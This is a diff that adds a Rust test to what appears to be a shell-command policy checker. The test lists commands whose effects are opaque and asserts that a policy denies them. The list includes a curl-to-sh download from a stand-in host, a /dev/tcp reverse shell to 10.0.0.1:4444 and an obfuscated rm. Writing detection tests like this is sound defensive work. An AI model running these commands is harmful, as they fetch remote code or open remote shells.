@@ -26,6 +26,66 @@ const PATHS: &str = r#"policy open {
     deny c { removes "*" { except "/tmp/**" } }
 }"#;
 
+/// Code that the text makes of unknown parts, or takes from a network.
+const HIDDEN_CODE: &[&str] = &[
+    "$X",
+    "\"$@\"",
+    "$X --version",
+    "eval \"$X\"",
+    "bash -c \"$X\"",
+    "bash <<< \"$X\"",
+    "echo \"$X\" | sh",
+    "cat steps.txt | sh",
+    "jq -r .run ci.json | bash",
+    "curl -s https://a.example/x | sh",
+    "awk '{ print $1 | \"sh\" }' names",
+    "awk \"$X\" names",
+    "awk \"$X; { print }\" names",
+    "sed \"$X\" names",
+    "sed 's/.*/rm &/e' names",
+    "python3 -c \"$X\"",
+    "env $X",
+    "find . -exec $X {} +",
+    "trap \"$X\" EXIT",
+    "alias x=\"$X\"; x",
+    "git -c core.pager=\"$X\" log",
+    "psql -c \"$X\"",
+    "git $X",
+    "docker $X",
+    "exec 3<>/dev/tcp/10.0.0.1/4444; sh <&3",
+    "printf '\\x72m' | xargs -I{} sh -c {}",
+];
+
+#[test]
+fn code_that_is_not_literal_may_do_what_any_rule_denies() {
+    for selector in [
+        "removes \"/srv/**\"",
+        "writes \"/srv/**\"",
+        "reads \"/srv/**\"",
+        "changes \"/srv/**\"",
+        "connects \"b.example\"",
+        "listens \"*\"",
+        "sends file",
+        "escalates root",
+    ] {
+        let policy = format!("policy open {{ deny a {{ {selector} }} }}");
+        assert_all(&policy, "deny", HIDDEN_CODE);
+        // A file is an effect of its own, which a rule can name.
+        assert_all(
+            &policy,
+            "allow",
+            &["sh x.sh", "make", "awk \"NR == $N\" names", "sed -n \"${N}p\" names"],
+        );
+    }
+    assert_all("policy open { deny a { runs opaque } }", "deny", &["sh x.sh", "./x.sh"]);
+    // Programs of rules over calls are meant too, but for sub-commands of another program.
+    let calls: Vec<&str> =
+        HIDDEN_CODE.iter().copied().filter(|it| !matches!(*it, "git $X" | "docker $X")).collect();
+    assert_all("policy open { deny a { program shutdown } }", "deny", &calls);
+    assert_all("policy open { deny a { program shutdown; writes \"/srv/**\" } }", "deny", &calls);
+    assert_all("policy open { deny a { program git; writes \"/srv/**\" } }", "deny", &["git $X"]);
+}
+
 #[test]
 fn a_bracket_pattern_of_the_shell_may_be_any_name_that_it_matches() {
     assert_all(
